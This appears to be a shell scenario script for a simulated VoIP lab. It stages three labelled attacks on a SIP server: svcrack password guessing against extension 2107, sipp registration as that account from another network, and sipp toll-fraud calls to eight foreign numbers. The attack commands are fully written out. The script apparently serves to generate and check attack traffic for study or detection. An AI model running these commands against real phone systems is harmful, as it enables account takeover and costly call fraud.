# One host guesses the password of an account of a server that challenges everyone; another, in
# another network, registers with it and calls external numbers.
relocate example.org 5060 10.88.40 198.51.100 203.0.113 198.19.88
EXTENSIONS=(2101 2102 2103 2104 2105 2106 2107)
EXISTING='^21[0-1][0-9]$'
WEAK=2107
WEAK_PASSWORD=phone2026
open_office -A WITH_HARDENED
add_attacker cracker 203.0.113.71
add_attacker thief 198.19.88.93
start_office_capture
keep_alive 19
office_day 307 132
words >"$scratch/words"
sed 's/response="407"/response="401"/' "$parts/sipp/fraud.xml" >"$scratch/fraud.xml"
at 9 attack A1 password_cracking cracker 5071 "svcrack tries words as passwords of 2107 until one is right." \
    "$(version_of svcrack)" svcrack -b 203.0.113.71 -x 203.0.113.71 -P 5071 -t 0.4 -u "$WEAK" -d "$scratch/words" 10.88.40.1
at 70 attack A2 hijack:account_takeover thief 5060 "From another network a host registers as 2107 with the guessed password." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$parts/sipp/register.xml" -nostdin -m 1 -l 1 -r 1 -key parameters "" \
    -i 198.19.88.93 -p 5060 -s "$WEAK" -au "$WEAK" -ap "$WEAK_PASSWORD" 10.88.40.1:5060
printf '%s\n' SEQUENTIAL '0021612345;' '0088299101;' '0088299102;' '0026377701;' '0026377702;' '0021612346;' '0088299103;' '0026377703;' >"$scratch/numbers.csv"
at 76 attack A3 toll_fraud thief 5064 "As 2107 that host calls eight numbers abroad, one every three seconds." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/fraud.xml" -nostdin -inf "$scratch/numbers.csv" \
    -i 198.19.88.93 -mi 198.19.88.93 -p 5064 -key user "$WEAK" -au "$WEAK" -ap "$WEAK_PASSWORD" -d 14000 \
    -r 1 -rp 3000 -m 8 -l 8 10.88.40.1:5060
echo "$WEAK toll_fraud" >>"$scratch/users"
play
wait_for A1 A2 A3
close_office
expect_said A1 "$WEAK_PASSWORD"
